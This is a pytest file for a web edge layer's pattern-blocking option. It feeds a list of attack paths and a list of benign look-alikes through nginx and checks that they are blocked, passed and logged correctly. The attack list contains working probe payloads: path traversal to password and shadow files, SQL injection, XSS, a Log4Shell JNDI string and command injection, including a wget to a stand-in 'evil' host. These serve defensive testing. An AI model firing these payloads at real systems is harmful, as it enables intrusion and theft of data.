"""What `block_patterns` stops, and what it lets through."""

from __future__ import annotations

import pytest

from tests.edge.conftest import Start

ATTACKS = [
    "/../../etc/passwd",
    "/static/..%2f..%2fetc/passwd",
    "/static/%2e%2e/%2e%2e/secret",
    "/static/%252e%252e%252fsecret",
    "/download?file=../../config.py",
    "/download?file=..%5c..%5cwindows%5cwin.ini",
    "/download?file=..\\..\\boot.ini",
    "/download?file=/etc/passwd",
    "/download?file=%2Fetc%2Fshadow",
    "/download?file=/proc/self/environ",
    "/a%00.png",
    "/books?id=1%20UNION%20SELECT%20name,2%20FROM%20users",
    "/books?id=1+union+all+select+1,2",
    "/books?id=1/**/union/**/select/**/1",
    "/books?id=1%27%20OR%20%271%27=%271",
    "/books?id=1'+or+1=1--",
    "/books?name=x%27;DROP%20TABLE%20users;--",
    "/books?id=1;alter+table+users+add+x+int",
    "/books?id=1+and+sleep(5)",
    "/books?id=1%3Bselect+pg_sleep%2810%29",
    "/books?q=information_schema.tables",
    "/books?id=1;waitfor+delay+'0:0:5'",
    "/search?q=<script>alert(1)</script>",
    "/search?q=%3Cscript%20src=//evil%3E",
    "/search?q=%3Csvg/onload=alert(1)%3E",
    "/search?q=%3cimg+src=x+onerror=alert(1)%3e",
    "/go?to=javascript:alert(1)",
    "/go?to=JavaScript%3Aalert(1)",
    "/?x=${jndi:ldap://evil/a}",
    "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%7D",
    "/?x=$(id)",
    "/ping?host=127.0.0.1;cat+/tmp/x",
    "/ping?host=127.0.0.1%3Bwget%20http://evil/x",
    "/ping?host=a|whoami",
    "/ping?host=%60id%60",
    "/page?file=php://input",
    "/page?file=expect%3A%2F%2Fid",
]
ORDINARY = [
    "/",
    "/index.html",
    "/books/the-union-selection?page=2&sort=-date",
    "/static/app.min.js?v=1.2.3",
    "/static/..data/config.js",
    "/compare/v1.0...v1.1",
    "/compare/v1..v2",
    "/files/report..2026.pdf",
    "/.well-known/security.txt",
    "/.well-known/acme-challenge/abc",
    "/search?q=credit+union+select+committee",
    "/search?q=student+union%2C+selected+works",
    "/search?q=rock+%26+roll+or+jazz",
    "/search?q=rock+%27n%27+roll",
    "/search?q=O%27Reilly+and+sons",
    "/search?q=it%27s+mine+or+yours",
    "/search?q=drop+table+lamps",
    "/search?q=sleep+(music)",
    "/search?q=how+to+sleep",
    "/search?q=script+writing",
    "/search?q=%3C3+love",
    "/search?q=a%3Cb+and+b%3Ec",
    "/search?q=javascript",
    "/search?q=javascript%20promises",
    "/search?q=caf%C3%A9%20%E3%81%82",
    "/search?q=100%25+cotton",
    "/search?q=cat+food;dog+food",
    "/search?q=price:$10",
    "/search?filter[name]=a&filter[tags][]=b",
    "/redirect?to=https%3A%2F%2Fshop.example.com%2Fcart%3Fid%3D7",
    "/redirect?to=https://shop.example.com/",
    "/users/etc/passwords",
    "/docs/etc/hostname",
    "/proc/selfies",
    "/order;jsessionid=1A2B",
    "/items;id=7",
    "/calc?expr=(1%2B2)*3",
    "/img?src=data:image/png;base64,iVBORw0KGgo=",
    "/oauth/callback?code=4%2F0AX4XfWh-a.b_c&state=xyz%3D%3D&scope=email%20profile",
    "/api/v1/items?where=%7B%22a%22%3A1%7D",
    "/api/items?ids=1,2,3&fields=name%2Cprice&order=name%20asc",
    "/maps/@51.5,-0.12,15z",
    "/a/b//c",
    "/user/%40me?redirect=%2Fhome",
    "/sleep(deeply)",
    "/files/my%20document%20(1).pdf",
    "/select?union=yes",
    "/graphql?query=%7Bme%7Bname%7D%7D",
]


@pytest.fixture
def statuses(edge: Start) -> dict[str, int]:
    site = edge(block_patterns=True)
    return {
        path: int(site.raw(f"GET {path} HTTP/1.0\r\nHost: x\r\n\r\n".encode())[9:12]) for path in ATTACKS + ORDINARY
    }


def test_what_looks_like_an_attack_is_stopped_and_ordinary_addresses_pass(statuses: dict[str, int]) -> None:
    """403, or nginx's own 400 for what leads out of the root."""
    assert [] == [path for path in ATTACKS if statuses[path] not in {400, 403}]
    assert [] == [(path, statuses[path]) for path in ORDINARY if statuses[path] != 200]


def test_nothing_is_stopped_unless_it_is_asked_for(edge: Start) -> None:
    """All but what nginx itself does not understand reaches the app."""
    site = edge()

    assert 200 == site.get("/search?q=%3Cscript%3E&file=../../x").status


def test_what_is_stopped_is_seen_in_the_log(edge: Start) -> None:
    """With the address, so that a false alarm can be found."""
    site = edge(block_patterns=True)
    request = site.get("/search?q=%3Cscript%3E")["x-request-id"]

    assert request
    assert '"status":403' in site.logged(request)
